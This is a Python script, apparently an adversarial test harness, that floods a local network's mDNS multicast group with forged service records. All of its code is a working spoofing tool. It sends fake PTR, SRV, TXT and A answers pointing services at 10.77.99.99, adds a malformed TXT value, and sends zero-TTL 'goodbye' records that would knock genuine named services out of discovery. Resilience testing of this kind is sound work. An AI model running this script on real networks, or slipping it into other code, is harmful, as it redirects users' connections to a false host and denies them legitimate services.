"""Somebody who floods the hall with false mDNS records, written by hand from RFC 1035.

``mdns_liar.py SERVICE NAMES A_SECOND SECONDS``: NAMES is ``random`` (any name), ``new``
(names of newcomers) or a comma-separated list of names to lie about. Prints what it sent.
"""

import asyncio
import itertools
import random
import socket
import struct
import sys
from collections.abc import Iterator

GROUP = ("224.0.0.251", 5353)
RESPONSE, PTR, A, SRV, TXT, IN, UNIQUE = 0x8400, 12, 1, 33, 16, 1, 0x8001


def name(dotted: str) -> bytes:
    labels = [part.encode() for part in dotted.split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner: str, kind: int, cls: int, ttl: int, data: bytes) -> bytes:
    return name(owner) + struct.pack(">HHIH", kind, cls, ttl, len(data)) + data


def lie(service: str, instance: str, address: str) -> bytes:
    full, host, kind = f"{instance}.{service}.local", f"{instance}.local", f"{service}.local"
    answers = [
        record(kind, PTR, IN, 4500, name(full)),
        record(full, SRV, UNIQUE, 120, struct.pack(">HHH", 0, 0, 6666) + name(host)),
        record(full, TXT, UNIQUE, 4500, b"\x06seat=\xff"),
        record(host, A, UNIQUE, 120, socket.inet_aton(address)),
    ]
    return struct.pack(">HHHHHH", 0, RESPONSE, 0, len(answers), 0, 0) + b"".join(answers)


def goodbye(service: str, instance: str) -> bytes:
    kind = f"{service}.local"
    record_of = record(kind, PTR, IN, 0, name(f"{instance}.{service}.local"))
    return struct.pack(">HHHHHH", 0, RESPONSE, 0, 1, 0, 0) + record_of


def instances(names: str) -> Iterator[str]:
    prefix = {"random": "x-", "new": "new-"}.get(names)
    if prefix is None:
        return itertools.cycle(names.split(","))
    return (f"{prefix}{random.getrandbits(32):08x}" for _ in itertools.count())


async def main(service: str, names: str, a_second: str, seconds: str) -> None:
    loop, sent = asyncio.get_running_loop(), 0
    begin, rate = loop.time(), float(a_second)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        line.bind(("", 5353))
        cable = struct.pack("4s4si", b"", b"", socket.if_nametoindex("eth0"))  # ip_mreqn
        line.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, cable)
        for instance in instances(names):
            if loop.time() >= begin + float(seconds):
                break
            line.sendto(lie(service, instance, "10.77.99.99"), GROUP)
            if names not in {"random", "new"}:
                line.sendto(goodbye(service, instance), GROUP)
            sent += 1
            if sent % 20 == 0:
                await asyncio.sleep(begin + sent / rate - loop.time())
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
